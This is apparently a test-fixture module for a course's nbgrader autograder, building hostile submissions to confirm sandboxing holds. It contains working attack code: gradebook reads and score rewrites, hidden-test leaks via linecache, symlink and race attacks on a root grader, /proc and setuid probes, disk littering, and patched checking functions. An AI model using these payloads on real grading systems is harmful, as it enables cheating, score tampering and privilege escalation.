"""Faulty and hostile submissions, built from the course's real notebooks (issue 6).

Each :class:`Fault` turns an assignment's source and release notebooks into the files one
learner hands in, and says what grading must make of it: which exercises score zero
(``lost``), and which words explain why (``reason``: found in the graded notebook's notes or
outputs, i.e. in the feedback, or in nbgrader's log). Every other exercise must keep its full
marks: a fault costs the learner what it breaks, nothing more, and costs the others nothing.

A fault that would leave a learner's score intact on its own (a test cell edited to ``pass``
is restored and run) is paired with the exercise it targets left unsolved, as a cheat would
be: the submission must then lose that exercise's points.

Used by tests/test_hostile_submissions.py and tests/test_autograde_cli.py.
"""

from __future__ import annotations

import copy
import json
import os
import stat
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

import course as C

MEMORY_LIMIT_MB = 2048  # the tests' kernel memory limit (SandboxedExecute.memory_limit_mb)


@dataclass
class Context:
    """What a builder needs to know about the assignment it writes a submission for."""

    assignment: str
    name: str  # the notebook file, "NN_name.ipynb"
    source: NotebookNode
    release: NotebookNode
    other: NotebookNode  # another assignment's source notebook
    course_root: Path
    gradebook: Path
    canary: Path | None = None  # grader files a submission aims its symlinks at (see canaries())

    @property
    def numbers(self) -> list[int]:
        return [e.number for e in C.exercises(self.source)]

    @property
    def first(self) -> int:
        return self.numbers[0]

    @property
    def last(self) -> int:
        return self.numbers[-1]

    def solved_except(self, *unsolved: int, **kw) -> NotebookNode:
        """The release with every exercise solved but ``unsolved``."""
        solved = [n for n in self.numbers if n not in unsolved]
        return C.submission(self.source, self.release, solved=solved, **kw)

    def prefix(self, n: int) -> str:
        return next(e.prefix for e in C.exercises(self.source) if e.number == n)


# ------------------------------------------------------------------------------------------------
# small edits


def _index(nb: NotebookNode, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if C.meta(c).get("grade_id") == grade_id)


def append_to_solution(nb: NotebookNode, ctx: Context, n: int, code: str) -> NotebookNode:
    """Add top-level ``code`` at the end of exercise n's solution cell."""
    nb = copy.deepcopy(nb)
    cell = nb.cells[_index(nb, ctx.prefix(n) + "solution")]
    cell.source = cell.source.rstrip() + "\n\n" + code
    return nb


def insert_cell(nb: NotebookNode, index: int, code: str) -> NotebookNode:
    """A learner's own cell (no nbgrader metadata) at ``index``."""
    nb = copy.deepcopy(nb)
    nb.cells.insert(index, new_code_cell(code))
    return nb


def notebook(ctx: Context, nb: NotebookNode) -> dict[str, NotebookNode | bytes]:
    return {ctx.name: nb}


# ------------------------------------------------------------------------------------------------
# the faults


def loop_forever(ctx):
    return notebook(ctx, append_to_solution(ctx.solved_except(ctx.first), ctx, ctx.first,
                                            "while True:\n    pass"))


def loop_ignoring_interrupt(ctx):
    code = ("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
            "while True:\n    try:\n        pass\n    except BaseException:\n        pass")
    return notebook(ctx, append_to_solution(ctx.solved_except(ctx.first), ctx, ctx.first, code))


def kill_kernel(ctx):
    return notebook(ctx, append_to_solution(ctx.solved_except(ctx.first), ctx, ctx.first,
                                            "import os\nos._exit(1)"))


def print_flood(ctx):
    code = ("for _block in range(300):  # 300,000 lines\n"
            "    print('\\n'.join(f'debug line {_block * 1000 + i}' for i in range(1000)))")
    return notebook(ctx, append_to_solution(ctx.solved_except(ctx.first), ctx, ctx.first, code))


def memory_hog(ctx):
    # 8x the kernel's limit, in 512 MB blocks (np.empty: nothing is touched, so even a broken
    # limit could not exhaust the grading machine; an address-space limit refuses it all the same)
    code = ("import numpy as _np\n_hog = []\n"
            f"for _ in range({MEMORY_LIMIT_MB * 8 // 512}):\n"
            "    _hog.append(_np.empty(512 * 2**20, dtype=_np.uint8))")
    return notebook(ctx, append_to_solution(ctx.solved_except(ctx.first), ctx, ctx.first, code))


def edit_test_to_pass(ctx):
    nb = ctx.solved_except(ctx.first)
    nb.cells[_index(nb, ctx.prefix(ctx.first) + "tests")].source = "pass"
    return notebook(ctx, nb)


def delete_test(ctx):
    nb = ctx.solved_except(ctx.first)
    del nb.cells[_index(nb, ctx.prefix(ctx.first) + "tests")]
    return notebook(ctx, nb)


def duplicate_test(ctx):
    return notebook(ctx, duplicate_cell(ctx.solved_except(ctx.first), ctx.prefix(ctx.first) + "tests"))


def state_breaking_cells(ctx):
    """exit() right after the setup cell (the kernel shuts down: restarted, state rebuilt), and
    names the learner's code needs deleted at the end of the last exercise's solution cell (its
    function then fails). Only setup and solution cells reach the judge's worker (issue 10): an
    ordinary cell deleting names changes the learner's kernel, not the verdict."""
    nb = append_to_solution(ctx.solved_except(), ctx, ctx.last, "del grading, np")
    setup = next(i for i, c in enumerate(nb.cells) if C.meta(c).get("locked") and not C.meta(c).get("grade"))
    return notebook(ctx, insert_cell(nb, setup + 1, "exit()"))


def hidden_marker_pasted(ctx):
    """A learner's cell quoting nbgrader's hidden-test marker with no end marker: left as it is,
    ClearHiddenTests would refuse the notebook and stop feedback for the whole batch."""
    nb = ctx.solved_except(ctx.first)
    return notebook(ctx, insert_cell(nb, len(nb.cells), "# ### BEGIN HIDDEN TESTS  (what are these?)"))


def moved_out_of_order(ctx):
    nb = ctx.solved_except()
    i = _index(nb, ctx.prefix(ctx.first) + "tests")
    test = nb.cells.pop(i)
    nb.cells.insert(_index(nb, ctx.prefix(ctx.first) + "solution"), test)
    return notebook(ctx, nb)


def invalid_json(ctx):
    text = nbformat.writes(ctx.source)
    return {ctx.name: text[: len(text) // 2].encode()}  # a truncated upload


def missing_notebook(ctx):
    """The notebook saved under Jupyter's "Make a copy" name: the expected file is missing."""
    return {ctx.name.replace(".ipynb", "-Copy1.ipynb"): ctx.source}


def other_assignment(ctx):
    """Another assignment's (correct) notebook under this assignment's file name."""
    return notebook(ctx, ctx.other)


def calls_reference(ctx):
    solved = [n for n in ctx.numbers if n != ctx.first]
    return notebook(ctx, C.submission(ctx.source, ctx.release, solved=solved, calls_reference=[ctx.first]))


ATTACK = r'''
import json as _json, os as _os, signal as _signal, sqlite3 as _sqlite3, subprocess as _sp
_results = {}
def _attempt(name, action):
    try:
        got = action()
    except Exception as exc:  # blocked
        _results[name] = "blocked: " + type(exc).__name__
    else:
        _results[name] = ("LEAKED: " + repr(got)[:80]) if got else "blocked: nothing there"
_root, _gb, _assignment, _nb = COURSE_ROOT, GRADEBOOK, ASSIGNMENT, NOTEBOOK
def _read(path):
    with open(path, "rb") as fh:
        return fh.read()
_attempt("read the source notebook", lambda: _read(_os.path.join(_root, "solutions", _assignment, _nb)))
_attempt("list the source folder", lambda: _os.listdir(_os.path.join(_root, "solutions")))
_attempt("read the gradebook file", lambda: _read(_gb))
def _sql_read():
    with _sqlite3.connect("file:" + _gb + "?mode=ro", uri=True) as db:
        return db.execute("select source from source_cell").fetchall()
_attempt("read the hidden tests from the gradebook", _sql_read)
def _sql_write():
    with _sqlite3.connect(_gb) as db:
        n = db.execute("update grade set auto_score = 1000, manual_score = 1000").rowcount
    return "updated %d rows" % n
_attempt("write scores into the gradebook", _sql_write)
_attempt("list the autograded folder", lambda: _os.listdir(_os.path.join(_root, "autograded")))
def _own_graded():
    for dirpath, _, files in _os.walk(_os.path.join(_root, "autograded")):
        for f in files:
            if f.endswith(".ipynb"):
                return _read(_os.path.join(dirpath, f))
    raise FileNotFoundError("no graded notebook reachable")
_attempt("read a graded notebook (hidden tests restored)", _own_graded)
_attempt("list the submissions", lambda: _os.listdir(_os.path.join(_root, "submitted")))
_attempt("read the course's git history", lambda: _os.listdir(_os.path.join(_root, ".git")))
def _local_notebooks():
    found = [f for d, _, fs in _os.walk(".") for f in fs if f.endswith(".ipynb")]
    found += [f for f in _os.listdir("..") if f.endswith(".ipynb")]
    return found
_attempt("find notebooks near the working folder", _local_notebooks)
_attempt("read the grader's environment", lambda: _read("/proc/%d/environ" % _os.getppid()))
_attempt("follow the grader's working folder", lambda: _os.listdir("/proc/%d/cwd" % _os.getppid()))
_attempt("signal the grader", lambda: _os.kill(_os.getppid(), 0) or "signal allowed")
_attempt("course paths in the environment",
         lambda: [k for k, v in _os.environ.items() if _root in v or "nbgrader" in v.lower() or _gb in v])
_attempt("become root", lambda: _os.setuid(0) or "root")
_stray = _sp.Popen(["sleep", "600"], start_new_session=True)  # must not outlive grading
print("ATTACK " + _json.dumps(_results, sort_keys=True))
print("STRAY %d" % _stray.pid)
'''

ATTACK_ATTEMPTS = 15


def attack(ctx):
    """Tries to read the secrets and write scores from an added cell; must achieve nothing."""
    code = (ATTACK.replace("COURSE_ROOT", repr(str(ctx.course_root)))
            .replace("GRADEBOOK", repr(str(ctx.gradebook)))
            .replace("ASSIGNMENT", repr(ctx.assignment))
            .replace("NOTEBOOK", repr(ctx.name)))
    nb = ctx.solved_except(ctx.first)
    return notebook(ctx, insert_cell(nb, _index(nb, ctx.prefix(ctx.first) + "solution") + 1, code))


def attack_stray_pid(nb: NotebookNode) -> int | None:
    """The pid of the background process the attack started."""
    for cell in nb.cells:
        for line in (C.output_text(cell) if cell.cell_type == "code" else "").splitlines():
            if line.startswith("STRAY "):
                return int(line.split()[1])
    return None


def attack_results(nb: NotebookNode) -> dict[str, str]:
    """The attack's report, printed by its cell in the graded notebook."""
    for cell in nb.cells:
        text = C.output_text(cell) if cell.cell_type == "code" else ""
        for line in text.splitlines():
            if line.startswith("ATTACK "):
                return json.loads(line[len("ATTACK "):])
    return {}


# ------------------------------------------------------------------------------------------------
# the file system (issue 10, sections 1 and 4): symlinks planted for the root grader, leftovers
# for the next learner, the disk budget


class Symlink(str):
    """A submitted file that is a symbolic link to this target (see :func:`write`)."""


def canaries(folder: Path, course_root: Path) -> dict[Path, tuple]:
    """Grader files a hostile submission aims at, and their state (content, owner, mode).

    The course's own nbgrader_config.py (rewriting it runs code as root at the instructor's next
    nbgrader command), and a folder of the grader's with a file in it (a cleanup that followed a
    symlink would empty it, a chown would hand it to the learner)."""
    folder.mkdir(parents=True, exist_ok=True)
    folder.chmod(0o755)
    (folder / "grading.py").write_text("SECRET = 'the grader keeps this'\n")
    (folder / "grading.py").chmod(0o644)
    config = course_root / "nbgrader_config.py"
    config.write_text("c = get_config()  # the instructor's configuration\n")
    config.chmod(0o644)
    return {p: file_state(p) for p in (folder, folder / "grading.py", config)}


def file_state(path: Path) -> tuple:
    st = os.lstat(path)
    content = tuple(sorted(os.listdir(path))) if stat.S_ISDIR(st.st_mode) else path.read_bytes()
    return (content, st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode), stat.S_IFMT(st.st_mode))


PLANT = r'''
import json as _json, os as _os, subprocess as _sp, sys as _sys, time as _time
_config, _dir, _file = CONFIG, CANARY_DIR, CANARY_FILE
_home = _os.environ["HOME"]
_planted = {}
def _plant(path, target):
    try:
        if _os.path.isdir(path) and not _os.path.islink(path):
            _os.rename(path, path + ".moved")
        elif _os.path.lexists(path):
            _os.remove(path)
        _os.symlink(target, path)
        _planted[path] = "planted"
    except OSError as exc:
        _planted[path] = "blocked: " + type(exc).__name__
# every name the grader has used as root inside the kernel's folder, and the sandbox's own folder
_plant(_os.path.join(_home, ".kernel-connection.json"), _config)
_plant(_os.path.join(_home, "kernel-output.log"), _file)
_plant(_os.path.join(_home, ".config", "matplotlib"), _dir)
_plant("linked-folder", _dir)
_plant("linked-file", _file)
_box = _os.path.dirname(_os.path.dirname(_os.getcwd()))
for _name in ("connection-2.json", "kernel-output.log", "fs", "marker"):
    _plant(_os.path.join(_box, _name), _config)
_plant(_os.path.join(_os.path.dirname(_os.getcwd()), "tmp"), _dir)
# and a swap between check and use: a process that keeps turning a folder into a symlink to the
# grader's folder and back, in the kernel's folder and HOME, while the grader restarts the kernel
_swapper = """
import os, time
spots = [os.path.join(os.environ['HOME'], '.kernel-connection.json'), 'swap', os.path.join('tmp', 'swap')]
while True:
    for spot in spots:
        for make in (lambda: os.symlink(%r, spot), lambda: os.mkdir(spot)):
            try:
                if os.path.islink(spot) or os.path.isfile(spot):
                    os.remove(spot)
                elif os.path.isdir(spot):
                    os.rmdir(spot)
                make()
            except OSError:
                pass
    time.sleep(0.001)
""" % _dir
_sp.Popen([_sys.executable, "-c", _swapper], start_new_session=True)
print("PLANTED " + _json.dumps({"uid": _os.getuid(), "cwd": _os.getcwd(), "planted": _planted}, sort_keys=True))
print("HANDED IN " + _json.dumps(sorted(n for n in _os.listdir(".") if n.startswith("handed-in"))))
_sys.stdout.flush()
_time.sleep(1)
_os._exit(1)  # the grader restarts the kernel: as root, with the symlinks in place
'''


def plant_symlinks(ctx):
    """Symlinks to grader files where the root grader used to write, chown and delete, a process
    swapping folders and symlinks meanwhile, then a dead kernel; symlinks handed in with the
    notebook too. Nothing outside the sandbox may change (tests/test_hostile_submissions.py)."""
    folder = ctx.canary
    code = (PLANT.replace("CONFIG", repr(str(ctx.course_root / "nbgrader_config.py")))
            .replace("CANARY_DIR", repr(str(folder))).replace("CANARY_FILE", repr(str(folder / "grading.py"))))
    files = notebook(ctx, append_to_solution(ctx.solved_except(ctx.first), ctx, ctx.first, code))
    files.update({"handed-in-link": Symlink(str(folder / "grading.py")), "handed-in-folder": Symlink(str(folder)),
                  "home": Symlink(str(folder))})
    return files


LITTER_MB = 100  # per file: under the per-file limit, six of them over the tests' disk budget
LITTER = r'''
import ctypes as _ctypes, json as _json, os as _os
_report = {"uid": _os.getuid(), "cwd": _os.getcwd(), "written_mb": 0, "errors": []}
_places = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", _os.environ["TMPDIR"], _os.environ["HOME"], "."]
_block = b"x" * 2**20
for _i, _place in enumerate(_places):
    _path = _os.path.join(_place, "left-by-litter-%d" % _i)
    try:
        with open(_path, "wb") as _fh:
            for _ in range(MB):
                _fh.write(_block)
                _report["written_mb"] += 1
    except OSError as _exc:
        _report["errors"].append("%s: %s" % (_place, _exc.strerror))
    try:
        _os.chmod(_path, 0o666)
    except OSError:
        pass
# a System V shared memory segment outlives its process unless the IPC namespace goes
_libc = _ctypes.CDLL(None, use_errno=True)
_shm = _libc.shmget(0xC0FFEE, 4096, 0o1000 | 0o666)
_report["sysv_shm"] = _shm
print("LITTER " + _json.dumps(_report, sort_keys=True))
'''

PROBE_LEFTOVERS = r'''
import ctypes as _ctypes, json as _json, os as _os
_found = []
for _place in ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", _os.environ["TMPDIR"]]:
    for _dirpath, _dirs, _files in _os.walk(_place):
        _found += [_os.path.join(_dirpath, _f) for _f in _files if _f.startswith("left-by-")]
_libc = _ctypes.CDLL(None, use_errno=True)
_seg = _libc.shmget(0xC0FFEE, 0, 0o666)
print("PROBE " + _json.dumps({"uid": _os.getuid(), "cwd": _os.getcwd(), "found": _found,
                              "sysv_shm": _seg}, sort_keys=True))
'''


def litter(ctx):
    """Fills /tmp, /var/tmp, /dev/shm, /run/lock, TMPDIR, HOME and its folder with world-writable
    files of LITTER_MB each, and leaves a System V shared memory segment, for the next learner."""
    nb = ctx.solved_except(ctx.first)
    code = LITTER.replace("MB", str(LITTER_MB))
    return notebook(ctx, insert_cell(nb, _index(nb, ctx.prefix(ctx.first) + "solution") + 1, code))


def probe_leftovers(ctx):
    """Graded right after :func:`litter`: looks for what it left (must find nothing)."""
    nb = ctx.solved_except(ctx.first)
    return notebook(ctx, insert_cell(nb, _index(nb, ctx.prefix(ctx.first) + "solution") + 1, PROBE_LEFTOVERS))


def printed_json(nb: NotebookNode, tag: str) -> dict:
    """The JSON a cell printed after ``tag`` (PLANTED, LITTER, PROBE)."""
    for cell in nb.cells:
        for line in (C.output_text(cell) if cell.cell_type == "code" else "").splitlines():
            if line.startswith(tag + " "):
                return json.loads(line[len(tag) + 1:])
    return {}
# attacks on the verdict and on the hidden tests (issue 10): learner code that changes how it is
# judged. Hidden tests are decided outside the learner's kernel, so each must score 0.

def _solution_functions(ctx) -> list[str]:
    import ast

    names = []
    for cell in C.solution_cells(ctx.source):
        names += [n.name for n in ast.parse(cell.source).body if isinstance(n, ast.FunctionDef)]
    return names


def zero_answers(ctx, before: str = "") -> NotebookNode:
    """Every exercise "answered" with zeros of the right shape (unsolved work that passes any
    comparison that has been made to say yes): each function is wrapped, at the end of its
    solution cell, to return zeros like the right answer; ``before`` goes first in the first
    solution cell."""
    nb = ctx.solved_except()
    zeros = ("def _zeros_like(r):\n"
             "    if isinstance(r, (tuple, list)):\n        return type(r)(_zeros_like(v) for v in r)\n"
             "    return np.zeros_like(r) if isinstance(r, np.ndarray) else 0 * r\n")
    for cell in nb.cells:
        if not C.meta(cell).get("solution"):
            continue
        import ast

        defined = [n.name for n in ast.parse(cell.source).body if isinstance(n, ast.FunctionDef)]
        wrap = "".join(f"\n_real_{f} = {f}\ndef {f}(*args, **kwargs):\n    return _zeros_like(_real_{f}(*args, **kwargs))\n"
                       for f in defined)
        cell.source = cell.source.rstrip() + "\n\n" + zeros + wrap
    first = next(c for c in nb.cells if C.meta(c).get("solution"))
    first.source = before + "\n" + first.source
    return nb


PATCH_ISCLOSE = ("np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast_shapes(np.shape(a), np.shape(b)), bool)\n")

REPLACE_CHECKS = "import cnnlib.grading as g\ng.check_function = lambda *a, **k: None\n"

# sets the comparison's `got` to `expected`: trace functions may write a frame's locals
SETTRACE_HOOK = """\
import sys as _s
def _make_it_right(frame, event, arg):
    if event == "call" and frame.f_code.co_name in ("_check_result", "_compare"):
        frame.f_locals["got"] = frame.f_locals["expected"]
    return None
getattr(_s, "set" + "trace")(_make_it_right)
"""


def patched_isclose(ctx):
    return notebook(ctx, zero_answers(ctx, PATCH_ISCLOSE))


def replaced_check_function(ctx):
    """The release as handed out (nothing solved), with the checks replaced by a no-op."""
    nb = copy.deepcopy(ctx.release)
    first = next(c for c in nb.cells if C.meta(c).get("solution"))
    first.source = REPLACE_CHECKS + "\n" + first.source
    return notebook(ctx, nb)


def settrace_rewrites_got(ctx):
    return notebook(ctx, zero_answers(ctx, SETTRACE_HOOK))


# a learner's last cell that prints what its kernel kept of the test cells it ran: linecache,
# In / _ih, each line as it is and reversed (reversed lines got past cnn-grade's withholding,
# which searched the page for the hidden lines). Only texts that call the checks are printed, so
# the output stays under nbgrader's LimitOutput (1000 lines).
LEAK_CELL = """\
import linecache as _lc
_texts = []
for _entry in list(_lc.cache.values()):
    if len(_entry) >= 3 and _entry[2]:
        _texts.append("".join(_entry[2]))
for _name in ("In", "_ih"):
    _texts.extend(str(_t) for _t in globals().get(_name, []))
print("LEAK BEGIN")
for _text in dict.fromkeys(_t for _t in _texts if "grading.check" in _t and "_lc.cache" not in _t):
    for _line in _text.splitlines():
        print(_line)
        print(_line[::-1])
print("LEAK END")
"""


def leak_hidden_tests(ctx):
    nb = ctx.solved_except(ctx.first)
    return notebook(ctx, insert_cell(nb, len(nb.cells), LEAK_CELL))


def leak_text(nb: NotebookNode) -> str:
    """What the leaking cell printed, in the graded notebook."""
    for cell in nb.cells:
        text = C.output_text(cell) if cell.cell_type == "code" else ""
        if "LEAK BEGIN" in text:
            return text
    return ""


# ------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Fault:
    name: str
    build: Callable[[Context], dict]
    lost: Callable[[Context], set[int]]  # exercises that must score 0
    reason: str  # words that must explain it (notes, outputs or log), case-insensitive
    kernel: bool = True  # False: graded without running any code (placeholder)
    expensive: bool = False  # costs a timeout or a kernel restart


def first(ctx):
    return {ctx.first}


def last(ctx):
    return {ctx.last}


def every(ctx):
    return set(ctx.numbers)


FAULTS = [
    Fault("loop_forever", loop_forever, first, "time limit per cell", expensive=True),
    Fault("loop_ignoring_interrupt", loop_ignoring_interrupt, first,
          "did not stop when interrupted", expensive=True),
    Fault("kill_kernel", kill_kernel, first, "kernel stopped while running this cell", expensive=True),
    Fault("print_flood", print_flood, first, "output limit exceeded", expensive=True),
    Fault("memory_hog", memory_hog, first, "MemoryError", expensive=True),
    Fault("state_breaking_cells", state_breaking_cells, last, "called exit()", expensive=True),
    Fault("test_edited_to_pass", edit_test_to_pass, first, "was edited; the original was restored"),
    Fault("test_deleted", delete_test, first, "was missing and has been put back"),
    Fault("test_duplicated", duplicate_test, first, "appears more than once"),
    Fault("moved_out_of_order", moved_out_of_order, first, "was moved before"),
    Fault("hidden_marker_pasted", hidden_marker_pasted, first, "not implemented yet"),
    Fault("calls_reference", calls_reference, first, "your code called cnnlib's reference"),
    Fault("attack", attack, first, "flagged for review", expensive=True),
    Fault("plant_symlinks", plant_symlinks, first, "kernel stopped while running this cell", expensive=True),
    Fault("litter", litter, first, "flagged for review", expensive=True),
    Fault("litter_probe", probe_leftovers, first, "flagged for review", expensive=True),
    Fault("patched_isclose", patched_isclose, every, "values differ"),
    Fault("replaced_check_function", replaced_check_function, every, "not implemented yet"),
    Fault("settrace_rewrites_got", settrace_rewrites_got, every, "flagged for review"),
    Fault("leak_hidden_tests", leak_hidden_tests, first, "not implemented yet"),
    Fault("invalid_json", invalid_json, every, "not a valid notebook file", kernel=False),
    Fault("missing_notebook", missing_notebook, every, "no notebook named", kernel=False),
    Fault("other_assignment", other_assignment, every, "none of the graded cells", kernel=False),
]

#: Faults that need no kernel or fail at the metadata level: checked on every assignment.
STRUCTURAL = ("test_duplicated", "invalid_json", "missing_notebook", "other_assignment")


def write(folder: Path, files: dict) -> None:
    """Write a submission's files (notebooks or raw bytes) into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        if isinstance(content, Symlink):
            os.symlink(str(content), folder / name)
        elif isinstance(content, bytes):
            (folder / name).write_bytes(content)
        else:
            nbformat.write(content, str(folder / name))


def blank_solution(nb: NotebookNode, grade_id: str) -> NotebookNode:
    """The learner emptied a solution cell: its function is never defined."""
    nb = copy.deepcopy(nb)
    nb.cells[_index(nb, grade_id)].source = "# I gave up on this one\n"
    return nb


def duplicate_cell(nb: NotebookNode, grade_id: str) -> NotebookNode:
    """A copy-pasted graded cell, metadata and all, right after the original."""
    nb = copy.deepcopy(nb)
    i = _index(nb, grade_id)
    nb.cells.insert(i + 1, copy.deepcopy(nb.cells[i]))
    return nb


def handed_out(source: NotebookNode) -> NotebookNode:
    """The source notebook as a learner has it: solutions in place, hidden tests removed."""
    from nbgrader.preprocessors import ClearHiddenTests

    nb = copy.deepcopy(source)
    nb, _ = ClearHiddenTests().preprocess(nb, {})
    return nb
